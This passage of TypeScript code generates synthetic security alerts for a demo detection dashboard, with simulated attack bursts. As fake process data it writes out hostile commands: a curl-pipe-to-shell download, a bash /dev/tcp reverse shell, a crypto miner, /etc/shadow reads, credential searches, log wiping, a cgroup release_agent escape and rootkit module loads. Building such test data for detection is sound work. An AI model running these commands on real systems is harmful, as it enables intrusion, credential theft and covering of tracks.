      [1.5, () => syscall(ctx, 'Redirect STDOUT/STDIN to Network Connection in Container', c, { chain: [nc, launcher, ...main], user, fields: connection(ctx.rng, c.ip, '10.0.0.5', 4444, 'dup2') })],
      [root ? 2 : 0, () => syscall(ctx, 'Read sensitive file untrusted', c, { chain: [tool(base, 'cat', '/etc/shadow'), shell, launcher, ...main], user, fields: openat('/etc/shadow') })],
      [root ? 1 : 0, () => syscall(ctx, 'Directory traversal monitored file read', c, { chain: main, user, fields: openat('/etc/shadow', { 'fd.nameraw': '/srv/app/static/../../../etc/shadow' }) })],
      [1, () => syscall(ctx, 'Packet socket created in container', c, {
        chain: [tool(base, 'python3', '-c from scapy.all import sniff; sniff(iface="eth0", count=500)'), shell, launcher, ...main], user,
        fields: { 'evt.type': 'socket', 'evt.args': 'fd=5(<p>) domain=17(AF_PACKET) type=3 proto=768', 'fd.name': '', 'fd.lport': null, 'fd.rport': null, 'fd.type': '<NA>', 'fd.l4proto': '<NA>' },
      })],
      [1, () => syscall(ctx, 'Search Private Keys or Passwords', c, { chain: [tool(base, 'find', '/ -name id_rsa -o -name id_ed25519 -o -name *.pem'), shell, launcher, ...main], user })],
      [0.7, () => syscall(ctx, 'Find AWS Credentials', c, { chain: [tool(base, 'grep', '-r aws_secret_access_key /srv /root /home'), shell, launcher, ...main], user })],
    ] as const)(),
  ];
};

/** The ingress controller compromised: nginx → sh → curl, a miner, API server probing. */
const ingressCompromise: BurstKind = (rng, startMs) => {
  const c = pickContainer(rng, 'ingress');
  const base = c.profile.base;
  const ip = `198.51.100.${int(rng, 10, 250)}`;
  const main = mainChain(c, startMs);
  const pid = hostPidAt(c.host, startMs);
  const sh = { ...tool(base, 'sh', `-c curl -fsSL http://${ip}/x.sh | sh`), pid };
  const stage = { ...tool(base, 'sh'), pid: pid + 2 };
  const xmrig = proc('xmrig', '/tmp/.X11-unix/xmrig', '-o stratum+tcp://203.0.113.99:3333 --donate-level=0 -B', { argv0: './xmrig', pid: pid + 9 });
  const user = c.profile.user;
  return (ctx) => [
    weighted(ctx.rng, [
      [3, () => syscall(ctx, 'Run shell untrusted', c, { chain: [sh, ...main], user })],
      [2, () => syscall(ctx, 'Drop and execute new binary in container', c, { chain: [xmrig, stage, sh, ...main], user, cwd: '/tmp/.X11-unix/', fields: droppedBinary(ctx, './xmrig', int(ctx.rng, 1_000, 6_000)) })],
      [2, () => syscall(ctx, 'Contact K8S API Server From Container', c, {
        chain: [tool(base, 'curl', `-sk -H @/tmp/.h https://${API_SERVER}/api/v1/secrets`), stage, sh, ...main], user, fields: connection(ctx.rng, c.ip, API_SERVER, 443),
      })],
      [1, () => syscall(ctx, 'Clear Log Activities', c, { chain: [tool(base, 'sh', '-c : > /var/log/nginx/error.log'), stage, sh, ...main], user, fields: openat('/var/log/nginx/error.log') })],
      [1, () => syscall(ctx, 'Create Symlink Over Sensitive Files', c, {
        chain: [tool(base, 'ln', '-s /etc /tmp/.e'), stage, sh, ...main], user, fields: { 'evt.type': 'symlinkat', 'evt.arg.target': '/etc', 'evt.arg.linkpath': '/tmp/.e' },
      })],
      [1, () => syscall(ctx, 'Execution from /dev/shm', c, { chain: [tool(base, 'sh', '-c /dev/shm/.x/upd'), stage, sh, ...main], user, fields: { 'fd.name': '/dev/shm/.x/upd' } })],
      [0.7, () => syscall(ctx, 'Redirect STDOUT/STDIN to Network Connection in Container', c, {
        chain: [tool(base, 'bash', `-c bash -i >& /dev/tcp/${ip}/443 0>&1`), stage, sh, ...main], user, fields: connection(ctx.rng, c.ip, ip, 443, 'dup2'),
      })],
    ] as const)(),
  ];
};

/** Someone with sudo on a node covers their tracks: tmux → bash → sudo → sudo → …. */
const hostInsider: BurstKind = (rng, startMs) => {
  const host = pick(rng, HOSTS);
  const admin = pick(rng, ADMINS);
  const tmux = proc('tmux', '/usr/bin/tmux', 'new-session -A -s ops', { pid: pidStartedAgo(host, startMs, 3 * HOUR_MS) });
  const bash = proc('bash', '/usr/bin/bash', '', { argv0: '-bash', pid: (tmux.pid ?? 0) + 1 });
  const shell = [bash, tmux, SYSTEMD];
  const user = sudoRoot(admin);
  const tty = 34816 + int(rng, 0, 4);
  const run = (ctx: Ctx, rule: string, command: Proc, fields: Fields = {}) => syscall(ctx, rule, host, { chain: sudoed(command, shell), user, tty, fields });
  const al = (name: string, args: string) => tool('amazonlinux', name, args);
  return (ctx) => [
    weighted(ctx.rng, [
      [3, () => run(ctx, 'Read sensitive file untrusted', al('cat', '/etc/shadow'), openat('/etc/shadow'))],
      [1, () => run(ctx, 'Read sensitive file untrusted', al('cat', '/etc/sudoers'), openat('/etc/sudoers'))],
      [1, () => run(ctx, 'Create Hardlink Over Sensitive Files', al('ln', '/etc/shadow /var/tmp/.s'), { 'evt.type': 'linkat', 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': '/var/tmp/.s' })],
      [1, () => run(ctx, 'Clear Log Activities', al('truncate', '-s 0 /var/log/secure'), openat('/var/log/secure'))],
      [1, () => run(ctx, 'Remove Bulk Data from Disk', al('shred', `-u -n 3 /home/${admin.name}/.bash_history`))],
      [1, () => run(ctx, 'PTRACE attached to process', al('gdb', `-p ${sshdListener(host).pid ?? 1} -batch -ex generate-core-file`), { 'evt.type': 'ptrace' })],
      [0.7, () => run(ctx, 'Linux Kernel Module Injection Detected', tool('amazonlinux', 'insmod', '/var/tmp/.m/diamorphine.ko'), { 'evt.type': 'init_module' })],
      [1, () => run(ctx, 'Search Private Keys or Passwords', al('find', '/ -name id_rsa -o -name *.pem -o -name authorized_keys'))],
      [1, () => syscall(ctx, 'Disallowed SSH Connection Non Standard Port', host, {
        chain: [al('ssh', '-p 2222 -i /var/tmp/.k ops@203.0.113.80'), ...shell], user: admin, tty,
        fields: connection(ctx.rng, host.ip, '203.0.113.80', 2222),
      })],
    ] as const)(),
  ];
};

/** A poisoned CI job abuses the privileged docker-in-docker container to reach the node. */
const ciEscape: BurstKind = (rng, startMs) => {
  const c = pickContainer(rng, 'dind');
  const parents = execParents(c, startMs, rng);
  const job = childOf(parents, tool('alpine', 'sh', '-c sh /builds/acme/platform-images/.ci/setup.sh'), rng);
  const setup = childOf([job], tool('alpine', 'sh', '/builds/acme/platform-images/.ci/setup.sh'), rng);
  const session = [setup, job, ...parents];
  const cgroup = `/tmp/cgrp${int(rng, 1, 9)}`;
  return (ctx) => [
    weighted(ctx.rng, [
      [3, () => syscall(ctx, 'Detect release_agent File Container Escapes', c, {
        chain: [tool('alpine', 'sh', `-c echo /cmd > ${cgroup}/release_agent`), ...session], user: ROOT, fields: openat(`${cgroup}/release_agent`),
      })],
      [1.5, () => syscall(ctx, 'Linux Kernel Module Injection Detected', c, { chain: [tool('alpine', 'insmod', '/tmp/.m/rootkit.ko'), ...session], user: ROOT, fields: { 'evt.type': 'init_module' } })],
      [1, () => syscall(ctx, 'Debugfs Launched in Privileged Container', c, { chain: [tool('alpine', 'debugfs', '-w /dev/nvme0n1p1'), ...session], user: ROOT })],
      [1, () => syscall(ctx, 'Drop and execute new binary in container', c, {
        chain: [proc('payload', '/cmd', '', { argv0: '/cmd' }), ...session], user: ROOT, cwd: '/builds/acme/platform-images/', fields: droppedBinary(ctx, '/cmd', int(ctx.rng, 500, 5_000)),
      })],
      [1, () => syscall(ctx, 'Read sensitive file untrusted', c, { chain: [tool('alpine', 'cat', '/host/etc/shadow'), ...session], user: ROOT, fields: openat('/host/etc/shadow') })],
    ] as const)(),
  ];
};

/** A node under load drops syscalls for a while. */
const nodeDrops: BurstKind = (rng) => {
  const host = pick(rng, HOSTS);
  return (ctx) => [syscallDrop(ctx, host, chance(ctx.rng, 0.15))];
};

/** A leaked token used against the API server. */
const k8sAbuse: BurstKind = (rng) => {
  const actor = pick(rng, ['system:serviceaccount:default:default', 'contractor-jdoe@example.com']);
  const pod = `debug-tools-${k8sSuffix(rng, 5)}`;
  const image = ['docker.io/library/alpine:3.19'];
  return (ctx) => {
    const r = ctx.rng;
    const target = pickContainer(r, 'java', 'python', 'node');
    return [
      weighted(r, [
        [3, () => {
          const [verb, resource, ns, code] = pick(r, [['list', 'secrets', 'payments', '200'], ['list', 'secrets', 'kube-system', '403'], ['get', 'pods', 'payments', '200'], ['list', 'pods', null, '200'], ['create', 'pods', 'default', '201'], ['list', 'nodes', null, '403']] as const);
          return disallowedUser(ctx, actor, verb, resource, ns, null, code);
        }],
        [1, () => pluginAlert(ctx, 'K8s Secret Get Successfully', AUDIT_HOST, {
          'ka.user.name': actor, 'ka.target.name': pick(r, ['payments-db-credentials', 'stripe-api-key', 'default-token-7xk2p']), 'ka.target.namespace': 'payments',
          'ka.target.resource': 'secrets', 'ka.response.code': '200', 'ka.auth.decision': 'allow', 'ka.auth.reason': rbacReason('ClusterRoleBinding "legacy-readers"', 'view-secrets', `User "${actor}"`),
        })],
        [1.5, () => pluginAlert(ctx, 'Attach/Exec Pod', AUDIT_HOST, {
          'ka.user.name': actor, 'ka.target.name': target.pod, 'ka.target.resource': 'pods', 'ka.target.namespace': target.ns,
          'ka.target.subresource': 'exec', 'ka.uri.param[command]': pick(r, ['sh', 'env', 'cat']),
        })],
        [1, () => pluginAlert(ctx, 'Create Privileged Pod', AUDIT_HOST, {
          'ka.user.name': actor, 'ka.resp.name': pod, 'ka.target.resource': 'pods', 'ka.target.namespace': 'default',
          'ka.req.pod.containers.image': image, 'ka.req.pod.initContainers.image': null, 'ka.req.pod.ephemeralContainers.image': null,
        })],
        [0.7, () => pluginAlert(ctx, 'Create Sensitive Mount Pod', AUDIT_HOST, {
          'ka.user.name': actor, 'ka.resp.name': pod, 'ka.target.namespace': 'default', 'ka.target.resource': 'pods', 'ka.req.pod.containers.image': image,
          'jevt.value[/requestObject/spec/volumes]': JSON.stringify([{ hostPath: { path: '/var/run/containerd/containerd.sock', type: 'Socket' }, name: 'cri' }, { hostPath: { path: '/', type: '' }, name: 'host' }]),
        })],
        [0.7, () => pluginAlert(ctx, 'Create HostNetwork Pod', AUDIT_HOST, {
          'ka.user.name': actor, 'ka.resp.name': pod, 'ka.target.resource': 'pods', 'ka.target.namespace': 'default', 'ka.req.pod.containers.image': image,
        })],
      ] as const)(),
    ];
  };
};

/** Leaked cloud credentials: console login without MFA, bucket enumeration, policies opened up. */
const cloudAbuse: BurstKind = (rng) => {
  const ip = `198.51.100.${int(rng, 10, 250)}`;
  if (chance(rng, 0.6)) {
    const user = pick(rng, ['bob', 'ci-artifacts-reader']);
    const region = pick(rng, ['us-east-1', 'ap-southeast-1']);
    return (ctx) => {
      const bucket = pick(ctx.rng, ['acme-prod-backups', 'acme-prod-artifacts', 'acme-terraform-state']);
      return [
        weighted(ctx.rng, [
          [1, () => pluginAlert(ctx, 'Console Login Without MFA', CLOUD_HOST, ctFields(user, ip, region))],
          [4, () => pluginAlert(ctx, 'List Buckets', CLOUD_HOST, ctFields(user, ip, region, { 'ct.request.host': `s3.${region}.amazonaws.com` }))],
          [1.5, () => pluginAlert(ctx, 'Put Bucket Policy', CLOUD_HOST, ctFields(user, ip, region, {
            's3.bucket': bucket,
            'ct.request.policy': JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${bucket}/*` }] }),
          }))],
          [1, () => pluginAlert(ctx, 'Delete Bucket Public Access Block', CLOUD_HOST, ctFields(user, ip, region, { 's3.bucket': bucket }))],
          [0.5, () => pluginAlert(ctx, 'CloudTrail Logging Disabled', CLOUD_HOST, ctFields(user, ip, region, { 'ct.request.name': 'acme-org-trail' }))],
          [0.7, () => pluginAlert(ctx, 'Create AWS user', CLOUD_HOST, ctFields(user, ip, region, { 'ct.request.username': 'support-sync' }))],
        ] as const)(),
      ];
    };
  }
  const user = `dataflow-runner@${GCP_PROJECT}.iam.gserviceaccount.com`;
  const agent = 'python-requests/2.31.0,gzip(gfe)';
  return (ctx) => {
    const bucket = pick(ctx.rng, ['acme-analytics-raw', 'acme-analytics-exports', 'acme-ml-models']);
    return [
      weighted(ctx.rng, [
        [3, () => pluginAlert(ctx, 'GCP Bucket enumerated', CLOUD_HOST, gcpFields(user, ip, agent, 'storage.objects.list', `projects/_/buckets/${bucket}`, {}, { 'gcp.storage.bucket': bucket }))],
        [1, () => pluginAlert(ctx, 'GCP IAM service account key created', CLOUD_HOST, gcpFields(user, ip, agent, 'iam.serviceAccountKeys.create', `projects/-/serviceAccounts/${user}`, { '@type': 'type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest', name: `projects/-/serviceAccounts/${user}` }))],
        [0.7, () => pluginAlert(ctx, 'GCP Bucket configured to be public', CLOUD_HOST, gcpFields(user, ip, agent, 'storage.buckets.setIamPolicy', `projects/_/buckets/${bucket}`, { '@type': 'type.googleapis.com/google.iam.v1.SetIamPolicyRequest', resource: `projects/_/buckets/${bucket}` }, {
          'gcp.policyDelta': JSON.stringify([{ action: 'ADD', member: 'allUsers', role: 'roles/storage.objectViewer' }]), 'gcp.storage.bucket': bucket,
        }))],
        [1, () => pluginAlert(ctx, 'GCP IAM policy modified', CLOUD_HOST, gcpFields(user, ip, agent, 'resourcemanager.projects.setIamPolicy', `projects/${GCP_PROJECT}`, { '@type': 'type.googleapis.com/google.iam.v1.SetIamPolicyRequest', resource: GCP_PROJECT }, {
          'gcp.policyDelta': JSON.stringify([{ action: 'ADD', member: 'user:attacker.mail@example.net', role: 'roles/owner' }]),
        }))],
        [0.5, () => pluginAlert(ctx, 'GCP GCE Firewall rule modified', CLOUD_HOST, gcpFields(user, ip, agent, 'compute.firewalls.update', `projects/${GCP_PROJECT}/global/firewalls/default-allow-ssh`, { '@type': 'type.googleapis.com/compute.firewalls.update', name: 'default-allow-ssh', sourceRanges: ['0.0.0.0/0'] }))],
      ] as const)(),
    ];
  };
};

const BURST_KINDS: readonly (readonly [number, BurstKind])[] = [
  [2, javaRce], [2, pythonReverseShell], [1.5, ingressCompromise], [1.5, hostInsider], [1, ciEscape], [2, nodeDrops], [1.2, k8sAbuse],
  [1.2, cloudAbuse],
];

// About one burst a day, 8–30 minutes long, at 6–16 times the average alert rate.
const BURST_CHANCE_PER_HOUR = 1 / 30;
const BURST_MINUTES = [8, 30] as const;
const BURST_INTENSITY = [6, 16] as const;
const BURST_SHARE =
  (BURST_CHANCE_PER_HOUR / 60) * ((BURST_MINUTES[0] + BURST_MINUTES[1]) / 2) * ((BURST_INTENSITY[0] + BURST_INTENSITY[1]) / 2);

interface Burst {
  hour: number;
  firstSlot: number;
  minutes: number;
  intensity: number;
  scenario: Scenario;
}

function burstAt(seed: number, hour: number): Burst | null {
  const rng = rngFor(seed, 'burst', hour);
  if (rng() >= BURST_CHANCE_PER_HOUR) return null;
  const firstSlot = hour * 60 + int(rng, 0, 59);
  const minutes = int(rng, BURST_MINUTES[0], BURST_MINUTES[1]);
  const intensity = BURST_INTENSITY[0] + rng() * (BURST_INTENSITY[1] - BURST_INTENSITY[0]);
  const kind = weighted(rng, BURST_KINDS);
  return { hour, firstSlot, minutes, intensity, scenario: kind(rng, firstSlot * MINUTE_MS) };
}

// ─── The stream ──────────────────────────────────────────────────────────────────────────────────

function incident(rng: Rng, slot: number, scenario: (ctx: Ctx) => AlertSpec[]): AlertSpec[] {
  const tNs = BigInt(slot * MINUTE_MS) * NS_PER_MS + BigInt(Math.floor(rng() * MINUTE_MS * 1e6));
  return scenario({ rng, tMs: Number(tNs / NS_PER_MS), tNs });
}

function everydaySlot(seed: number, slot: number, perMinute: number, floor: number): AlertSpec[] {
  const tMs = slot * MINUTE_MS;
  const rates = CATEGORIES.map((category, i) => [perMinute * (CATEGORY_SCALE[i] ?? 0) * category.activity(tMs), category] as const);
  const slotRng = rngFor(seed, 'slot', slot);
  const count = poisson(slotRng(), slotRng, Math.max(floor, rates.reduce((sum, [rate]) => sum + rate, 0)));
  const specs: AlertSpec[] = [];
  for (let i = 0; i < count; i++) {
    const rng = rngFor(seed, 'incident', slot, i);
    specs.push(...incident(rng, slot, (ctx) => weighted(ctx.rng, weighted(ctx.rng, rates).scenarios)(ctx)));
  }
  return specs;
}

function burstSlot(seed: number, burst: Burst, slot: number, perMinute: number): AlertSpec[] {
  const slotRng = rngFor(seed, 'burst-slot', burst.hour, slot);
  const count = poisson(slotRng(), slotRng, burst.intensity * perMinute);
  const specs: AlertSpec[] = [];
  for (let i = 0; i < count; i++) specs.push(...incident(rngFor(seed, 'burst-alert', burst.hour, slot, i), slot, burst.scenario));
  return specs;
}

/** The longest an incident's alerts trail its first one (an exec session's follow-up command). */
const INCIDENT_SPAN_MS = 15 * MINUTE_MS;
// The last minutes before `now` are never quiet (at least one incident a minute on average), so a
// dashboard opened right after the run looks alive even on a Sunday night. A higher rate only adds
// incidents to a minute, so a later run, at the normal rate there, sends a subset: duplicates.
const LIVE_MINUTES = 10;
const LIVE_INCIDENTS_PER_MINUTE = 1;

const byTime = (a: { timeNs: bigint }, b: { timeNs: bigint }) => (a.timeNs < b.timeNs ? -1 : a.timeNs > b.timeNs ? 1 : 0);

/**
 * The demo alerts of the window (nowMs − days, nowMs], oldest first. Same options → same lines; a
 * later nowMs gives the same lines for the minutes both windows cover (bar the busier last minutes
 * of the earlier window, whose extra alerts the later one leaves out).
 */
export function* demoAlerts({ seed, alerts, days, nowMs, part }: DemoOptions): Generator<DemoAlert> {
  // The rate is the whole window's; a part only narrows what is generated and kept.
  const perMinute = alerts / (days * 24 * 60);
  const startMs = Math.max(nowMs - days * DAY_MS, part?.fromMs ?? -Infinity);
  const endMs = Math.min(nowMs, part?.toMs ?? Infinity);
  const startNs = BigInt(Math.floor(startMs)) * NS_PER_MS;
  const endNs = BigInt(Math.floor(endMs)) * NS_PER_MS;
  const everyday = perMinute * (1 - BURST_SHARE);
  const inWindow = (spec: AlertSpec) => spec.timeNs > startNs && spec.timeNs <= endNs;
  // Two identical alerts in the same instant (CloudTrail has whole seconds) would be one alert to the
  // store: send it once, so a fresh store reports no duplicates.
  let instant = -1n;
  let seen = new Set<string>();
  const fresh = (spec: AlertSpec): DemoAlert | null => {
    const { identity, ...alert } = render(spec);
    if (alert.timeNs !== instant) {
      instant = alert.timeNs;
      seen = new Set();
    }
    if (seen.has(identity)) return null;
    seen.add(identity);
    return alert;
  };

  // Incidents that began shortly before the window still have later alerts inside it.
  const generateFromMs = startMs - INCIDENT_SPAN_MS;
  let pending: AlertSpec[] = [];
  let previousBurst = burstAt(seed, Math.floor(generateFromMs / HOUR_MS) - 1);
  for (let hour = Math.floor(generateFromMs / HOUR_MS); hour <= Math.floor(endMs / HOUR_MS); hour++) {
    const burst = burstAt(seed, hour);
    const bursts = [previousBurst, burst].filter((b): b is Burst => b !== null);
    previousBurst = burst;
    const firstSlot = Math.max(hour * 60, Math.floor(generateFromMs / MINUTE_MS));
    const lastSlot = Math.min(hour * 60 + 59, Math.floor(endMs / MINUTE_MS));
    for (let slot = firstSlot; slot <= lastSlot; slot++) {
      const live = slot > Math.floor(nowMs / MINUTE_MS) - LIVE_MINUTES ? LIVE_INCIDENTS_PER_MINUTE : 0;
      pending.push(...everydaySlot(seed, slot, everyday, live));
      for (const b of bursts) {
        if (slot >= b.firstSlot && slot < b.firstSlot + b.minutes) pending.push(...burstSlot(seed, b, slot, perMinute));
      }
    }
    // An incident's later alerts (seconds to minutes after it) can fall into the next hour: hold them.
    pending.sort(byTime);
    const horizon = BigInt((hour + 1) * HOUR_MS) * NS_PER_MS;
    const held: AlertSpec[] = [];
    for (const spec of pending) {
      if (spec.timeNs >= horizon) held.push(spec);
      else if (inWindow(spec)) {
        const alert = fresh(spec);
        if (alert) yield alert;
      }
    }
    pending = held;
  }
  for (const spec of pending) {
    const alert = inWindow(spec) ? fresh(spec) : null;
    if (alert) yield alert;
  }
}
